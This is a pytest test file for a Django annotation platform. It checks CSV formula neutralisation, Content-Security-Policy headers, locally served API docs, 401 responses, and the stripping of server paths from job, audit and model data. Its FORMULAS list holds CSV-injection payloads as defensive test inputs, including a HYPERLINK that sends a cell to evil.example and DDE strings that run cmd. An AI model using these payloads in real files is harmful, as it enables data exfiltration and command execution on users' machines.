"""Safe output: CSV cells never start a formula, a CSP with no inline script on every page, API docs
served from our own files, no absolute server paths in job responses, 401 with WWW-Authenticate, and a
schema that says which fields may be null."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from rest_framework.test import APIClient

from accounts.models import Role
from annotation import services
from annotation.models import Assignment
from annotation.services import ConceptSpec
from inference.models import Job
from inference.services import job_run
from tests import factories
from tests.annotation import worlds

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_world(db, postgres):
    own = factories.institution("own")
    coordinator = factories.user(role=Role.COORDINATOR, institution_obj=own)
    raters = [factories.user(role=Role.PHYSICIAN, institution_obj=own) for _ in range(len(FORMULAS))]
    sae = worlds.sae_with_examples(n_latents=2, institution=own)
    version = services.rubric_create(
        name="formulas", concepts=[ConceptSpec("HF", FORMULAS[0]), ConceptSpec("AKI", "@SUM(A1:A9)")], by=coordinator
    )
    round_ = worlds.make_round(
        by=coordinator, sae=sae, version=version, institutions=[own], raters_list=raters, overlap=len(FORMULAS)
    )
    for assignment in Assignment.objects.filter(round=round_).select_related("rater", "round"):
        formula = FORMULAS[raters.index(assignment.rater)]
        services.label_submit(
            assignment=assignment,
            concept_code="HF",
            confidence=3,
            free_text=formula[:300],
            rationale=formula + " because the peak token says so",
            by=assignment.rater,
        )
    worlds.close_round(round=round_, by=coordinator)
    return {"coordinator": coordinator, "round": round_}


@pytest.mark.parametrize("path", ["/api/v1/exports/labels/", "/api/v1/exports/latents/"])
def test_no_csv_cell_starts_a_formula(formula_world, path):
    client = APIClient()
    client.force_authenticate(formula_world["coordinator"])
    response = client.get(path, {"round": formula_world["round"].pk, "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 1
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
    if path.endswith("labels/"):
        quoted = {cell for cell in cells if cell.startswith("'")}
        for formula in FORMULAS:  # each written as text, the original (as the service stored it) after the quote
            assert "'" + formula.strip()[:300] in quoted
        assert "'" + FORMULAS[0] in quoted  # the concept name too


def test_the_csv_writer_neutralises_every_dangerous_start_and_leaves_numbers_alone():
    from annotation.exports import csv_chunks

    values = [*FORMULAS, "\tx", "\rx", "-", "plain", "a=b"]
    rows = [{"text": value, "number": -1.5} for value in values]
    parsed = list(csv.reader(io.StringIO("".join(csv_chunks(columns=["text", "number"], rows=rows)))))[1:]
    assert [row[0] for row in parsed] == [
        ("'" + value if value.startswith(DANGEROUS_STARTS) else value) for value in values
    ]
    assert {row[1] for row in parsed} == {"-1.5"}


PAGES = ["/", "/accounts/login/", "/api/docs/", "/account/tokens/", "/rounds/", "/export/", "/admin/login/"]


@pytest.mark.django_db
@pytest.mark.parametrize("path", PAGES)
def test_every_page_carries_a_csp_without_inline_script(path):
    client = Client()
    client.force_login(factories.user(role=Role.COORDINATOR))
    response = client.get(path)
    assert response.status_code in (200, 302)
    policy = response["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["script-src"] == "'self'"
    assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"
    if response.status_code == 200 and "text/html" in response["Content-Type"]:
        html = response.content.decode()
        assert "<script>" not in html and "<script >" not in html  # every script has a src


@pytest.mark.django_db
def test_api_docs_load_swagger_from_our_own_static_files():
    html = Client().get("/api/docs/").content.decode()
    assert "cdn" not in html.lower() and "//unpkg" not in html
    assert "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js" in html


@pytest.mark.django_db
def test_missing_credentials_answer_401_with_www_authenticate():
    response = APIClient().get("/api/v1/corpora/")
    assert response.status_code == 401
    assert response["WWW-Authenticate"].startswith("Bearer")


@pytest.mark.django_db
def test_schema_says_a_corpus_institution_may_be_null():
    schema = APIClient().get("/api/schema/", {"format": "json"}).json()
    institution = schema["components"]["schemas"]["Corpus"]["properties"]["institution"]
    assert institution.get("nullable") is True
    shared = factories.corpus()  # a shared corpus: no institution
    client = APIClient()
    client.force_authenticate(factories.user(role=Role.RESEARCHER))
    assert client.get(f"/api/v1/corpora/{shared.pk}/").json()["institution"] is None


@pytest.mark.django_db
def test_job_responses_show_no_absolute_server_paths(tmp_path, _artifact_root):
    researcher = factories.user(role=Role.RESEARCHER)
    client = APIClient()
    client.force_authenticate(researcher)
    for name, content in (
        ("good.jsonl", '{"external_id": "a", "text": "CHF."}\n'),
        ("bad.jsonl", '{"external_id": "a", "text": '),
    ):
        path = tmp_path / name
        path.write_text(content)
        with path.open("rb") as handle:
            created = client.post("/api/v1/jobs/import-corpus/", {"file": handle, "name": name}, format="multipart")
        assert created.status_code == 202
        job_run(job_id=created.json()["id"])
    listing = client.get("/api/v1/jobs/")
    detail = client.get(f"/api/v1/jobs/{created.json()['id']}/")
    for response in (created, listing, detail):
        text = json.dumps(response.json())
        assert str(_artifact_root) not in text and str(tmp_path) not in text
        assert "/tmp/" not in text and "/srv/" not in text and "/work/" not in text
    jobs = listing.json()["results"]
    assert {job["parameters"]["path"].split("/")[0] for job in jobs} == {"uploads"}

    # The job pages too: message, parameters and the log's traceback (file paths of the code) are public names.
    pages = Client()
    pages.force_login(researcher)
    ids = ",".join(str(job["id"]) for job in jobs)
    failed = next(job for job in jobs if job["status"] == "failed")
    assert Job.objects.get(pk=failed["id"]).log_tail.count("/") > 5  # there were paths to strip
    for path in ("/jobs/", f"/jobs/{failed['id']}/", f"/jobs/progress.json?ids={ids}"):
        text = pages.get(path).content.decode()
        assert str(_artifact_root) not in text and str(tmp_path) not in text, path
        assert "/tmp/" not in text and "/work/" not in text and "site-packages/" not in text, path


@pytest.mark.django_db
def test_the_jobs_compute_csv_neutralises_formulas_and_is_audited():
    from accounts.models import AuditEvent
    from features.models import SAE

    researcher = factories.user(role=Role.RESEARCHER)
    sae = factories.sae()
    SAE.objects.filter(pk=sae.pk).update(name=FORMULAS[0], sweep_group="@SUM(1)")
    client = Client()
    client.force_login(researcher)
    response = client.get("/jobs/export.csv", {"by": "sae"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [FORMULAS[0], "@SUM(1)"] == [cell[1:] for cell in rows[1][1:3]]  # written as text
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(DANGEROUS_STARTS)]
    assert AuditEvent.objects.filter(action="export.jobs_compute", actor=researcher).exists()


@pytest.mark.django_db
def test_a_host_model_loaded_from_a_local_folder_shows_its_name_not_the_path():
    from features.models import HostModel

    HostModel.objects.create(
        name="/srv/models/minilm", source="/srv/models/minilm", kind="encoder", d_model=8, n_layers=2
    )
    HostModel.objects.create(name="gpt2", source="openai-community/gpt2", kind="causal", d_model=8, n_layers=2)
    client = APIClient()
    client.force_authenticate(factories.user(role=Role.RESEARCHER))
    rows = {row["name"]: row["source"] for row in client.get("/api/v1/host-models/").json()["results"]}
    assert rows == {"minilm": "minilm", "gpt2": "openai-community/gpt2"}


@pytest.mark.django_db
def test_audit_payloads_and_sae_metrics_hold_no_absolute_server_paths(tmp_path, _artifact_root):
    """The import's AuditEvent held the absolute upload path (and the admin shows it); an imported SAE's
    cfg and metrics were served as they came, checkpoint and dataset paths included."""
    from accounts.models import AuditEvent
    from features.models import SAE

    researcher = factories.user(role=Role.RESEARCHER)
    client = APIClient()
    client.force_authenticate(researcher)
    path = tmp_path / "notes.jsonl"
    path.write_text('{"external_id": "a", "text": "CHF."}\n')
    with path.open("rb") as handle:
        created = client.post("/api/v1/jobs/import-corpus/", {"file": handle, "name": "n"}, format="multipart")
    assert created.status_code == 202
    payload = AuditEvent.objects.get(action="job.create.import_corpus").payload
    assert payload["path"].startswith("uploads/")
    assert str(_artifact_root) not in json.dumps(payload)

    sae = factories.sae(n_latents=2)
    SAE.objects.filter(pk=sae.pk).update(
        hyperparameters={"checkpoint": "/srv/hospital/secret/ckpt.pt", "width": 16},
        metrics={"dataset_path": f"{_artifact_root}/activations/set-1/acts.npy", "fve": 0.9},
    )
    data = client.get(f"/api/v1/saes/{sae.pk}/").json()
    assert data["hyperparameters"] == {"checkpoint": "ckpt.pt", "width": 16}
    assert data["metrics"] == {"dataset_path": "activations/set-1/acts.npy", "fve": 0.9}


def test_a_neutralised_csv_reads_back_as_written(tmp_path):
    """Exports write -1 as '-1 (formula neutralising); `agreement --csv … --level interval` then failed on
    every negative code. Reading strips a ' before a formula character again."""
    from django.core.management import call_command

    from accounts.csv_safety import SafeCsvWriter
    from annotation.stats.tables import read_long_csv

    path = tmp_path / "labels.csv"
    rows = [("u1", "r1", -1), ("u1", "r2", -2), ("u2", "r1", 3), ("u2", "r2", 3), ("u3", "r1", -4), ("u3", "r2", -4)]
    with path.open("w", newline="") as handle:
        writer = SafeCsvWriter(handle)
        writer.writerow(["latent_id", "rater", "concept_code", "note"])
        writer.writerows([(unit, rater, str(value), "=HYPERLINK(x)") for unit, rater, value in rows])
    text = path.read_text()
    assert "'-1" in text and "'=HYPERLINK" in text  # neutralised on the way out
    ratings = read_long_csv(path=path, numeric=True, extra_columns=("note",))
    assert sorted(float(v) for v in ratings.categories) == [-4.0, -2.0, -1.0, 3.0]
    assert set(ratings.extra["note"]) == {"=HYPERLINK(x)"}
    out = io.StringIO()
    call_command("agreement", "--csv", str(path), "--level", "interval", "--json", stdout=out)
    assert json.loads(out.getvalue())["alpha"] is not None
